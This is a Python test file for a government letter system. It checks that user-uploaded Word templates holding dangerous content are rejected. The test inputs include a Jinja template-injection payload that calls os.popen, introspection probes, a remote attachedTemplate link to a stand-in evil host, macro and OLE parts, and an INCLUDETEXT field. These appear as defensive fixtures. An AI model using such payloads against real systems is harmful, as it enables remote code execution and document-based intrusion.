"""An office's own .docx: taken when harmless and complete, refused in a sentence otherwise."""

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace

import pytest
from docx import Document

from gongkai.documents.wordml import read_docx
from gongkai.letters.compose import compose
from gongkai.letters.errors import WrongTemplateError
from gongkai.letters.own_template import check_template, fill_template
from tests.letters.cases import CASES

LINES = (
    "{{ 机关标志 }}", "{{ 文号 }}", "{{ 标题 }}", "{{ 称呼 }}",
    "{%p for 段 in 正文 %}", "{{ 段 }}", "{%p endfor %}",
    "{%p if 抄送 %}", "抄送：{{ 抄送 }}", "{%p endif %}", "{{ 署名 }}", "{{ 日期 }}",
)  # fmt: skip


def template(*lines: str, header: str = "") -> bytes:
    document = Document()
    for line in lines or LINES:
        document.add_paragraph(line)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_part(data: bytes, change: Callable[[str, bytes], bytes], extra: str = "") -> bytes:
    """The package with its parts changed, and perhaps one more."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        if extra:
            new.writestr(extra, b"x")
    return out.getvalue()


def test_a_good_template_is_taken_and_says_the_whole_letter() -> None:
    data = template()
    check_template(data)
    letter = compose(CASES["several"], number="测街办公开告〔2026〕1号")
    text = "\n".join(block.text for block in read_docx(fill_template(data, letter)).blocks)
    for line in [letter.number, letter.salutation, *(p.text for p in letter.body), letter.date]:
        assert line in text


def test_what_an_applicant_wrote_is_text_and_never_a_tag_or_markup() -> None:
    odd = "{{ 文号 }}<w:p/>&lt;{% for %}"
    letter = compose(replace(CASES["granted"], content=odd), number="测〔2026〕1号")
    text = "".join(block.text for block in read_docx(fill_template(template(), letter)).blocks)
    assert odd in text


@pytest.mark.parametrize(
    "tag",
    [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ ''.__class__.__mro__ }}",
        "{% for n in range(10) %}x{% endfor %}",
        "{{ 文号 * 1000000000 }}",
        "{{ 正文[0] }}",
        "{{ 文号|upper }}",
        "{% set a = 1 %}",
        "{% include 'x' %}",
        "{% macro a() %}{% endmacro %}",
        "{{ 标题.format }}",
        "{{ loop.cycle }}",
    ],
)
def test_a_tag_that_does_more_than_name_loop_or_ask_is_refused(tag: str) -> None:
    with pytest.raises(WrongTemplateError, match="请改正"):
        check_template(template(*LINES, tag))


def test_a_tag_hidden_in_the_header_is_found_too() -> None:
    with pytest.raises(WrongTemplateError, match="请改正"):
        check_template(template(header="{{ cycler.__init__ }}"))


def test_a_deep_loop_is_refused() -> None:
    loop = "{% for a in 正文 %}" * 3 + "x" + "{% endfor %}" * 3
    with pytest.raises(WrongTemplateError, match="套得太深"):
        check_template(template(*LINES, loop))


def test_an_unknown_word_is_named_with_the_words_that_may_be_used() -> None:
    with pytest.raises(WrongTemplateError, match=r"“applicant_id”系统不认识.*称呼"):
        check_template(template(*LINES, "{{ applicant_id }}"))


def test_a_template_that_would_lose_part_of_the_letter_is_refused() -> None:
    short = [line for line in LINES if line != "{{ 署名 }}"]
    with pytest.raises(WrongTemplateError, match=r"缺少.*署名"):
        check_template(template(*short))
    hidden = [line.replace("{%p if 抄送 %}", "{%p if not 抄送 %}") for line in LINES]
    hidden = [*hidden[:10], "{%p if not 抄送 %}", *hidden[10:], "{%p endif %}"]
    with pytest.raises(WrongTemplateError, match="样张里少了“样张署名”"):
        check_template(template(*hidden))


def test_a_broken_tag_is_refused() -> None:
    with pytest.raises(WrongTemplateError, match="成对的花括号"):
        check_template(template(*LINES, "{% for x in 正文 %}"))


def test_macros_objects_links_and_fields_that_fetch_are_refused() -> None:
    same = template()

    def kept(name: str, data: bytes) -> bytes:
        return data

    with pytest.raises(WrongTemplateError, match="宏或者嵌入的对象"):
        check_template(with_part(same, kept, "word/vbaProject.bin"))
    with pytest.raises(WrongTemplateError, match="宏或者嵌入的对象"):
        check_template(with_part(same, kept, "word/embeddings/oleObject1.bin"))

    link = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/>'
    )

    def linked(name: str, data: bytes) -> bytes:
        if name != "word/_rels/document.xml.rels":
            return data
        return data.replace(b"</Relationships>", link + b"</Relationships>")

    with pytest.raises(WrongTemplateError, match=re.escape("http://evil.test/a.dotm")):
        check_template(with_part(same, linked))

    def fetching(name: str, data: bytes) -> bytes:
        field = b'<w:p><w:r><w:instrText>INCLUDETEXT "c:\\x"</w:instrText></w:r></w:p></w:body>'
        return data.replace(b"</w:body>", field) if name == "word/document.xml" else data

    with pytest.raises(WrongTemplateError, match="域代码"):
        check_template(with_part(same, fetching))


def test_what_is_no_docx_or_too_large_is_refused() -> None:
    with pytest.raises(WrongTemplateError, match="另存为 "):
        check_template(b"%PDF-1.7 x")
    with pytest.raises(WrongTemplateError, match="超过5兆字节"):
        check_template(b"x" * (5 * 2**20 + 1))
